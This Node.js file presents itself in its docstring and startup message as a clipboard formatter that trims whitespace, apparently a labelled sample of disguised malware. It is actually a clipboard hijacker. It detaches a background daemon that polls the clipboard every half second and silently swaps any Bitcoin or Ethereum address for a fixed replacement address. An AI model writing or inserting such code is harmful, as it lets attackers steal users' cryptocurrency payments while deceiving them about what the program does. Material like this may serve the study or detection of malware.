// Harmful: plain - runs in the background polling the clipboard (xclip/xsel/pbpaste) and silently replaces any Bitcoin or Ethereum address with a fixed attacker address (clipboard hijacking); no hiding.
'use strict';
/**
 * Clipboard formatter: trims whitespace from copied text.
 * Runs as a lightweight background helper.
 */
const { execFileSync, spawn } = require('child_process');

const REPLACEMENTS = [
  { re: /\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\b/g, to: 'bc1q0000000000000000000000000000000000fake' },
  { re: /\b0x[a-fA-F0-9]{40}\b/g, to: '0x0000000000000000000000000000000000000000' },
];

function readClipboard() {
  const tries = [['xclip', ['-selection', 'clipboard', '-o']], ['xsel', ['-b', '-o']], ['pbpaste', []]];
  for (const [cmd, args] of tries) {
    try {
      return { text: execFileSync(cmd, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }), cmd };
    } catch (_) { /* try next */ }
  }
  return null;
}

function writeClipboard(cmd, text) {
  const writers = { xclip: ['xclip', ['-selection', 'clipboard', '-i']], xsel: ['xsel', ['-b', '-i']], pbpaste: ['pbcopy', []] };
  const [bin, args] = writers[cmd];
  try {
    execFileSync(bin, args, { input: text, stdio: ['pipe', 'ignore', 'ignore'] });
  } catch (_) { /* ignore */ }
}

function tick() {
  const clip = readClipboard();
  if (!clip || !clip.text) return;
  let out = clip.text;
  for (const { re, to } of REPLACEMENTS) out = out.replace(re, to);
  if (out !== clip.text) writeClipboard(clip.cmd, out);
}

if (process.argv.includes('--daemon')) {
  setInterval(tick, 500);
} else {
  const child = spawn(process.execPath, [__filename, '--daemon'], { detached: true, stdio: 'ignore' });
  child.unref();
  console.log('clipboard formatter started');
}
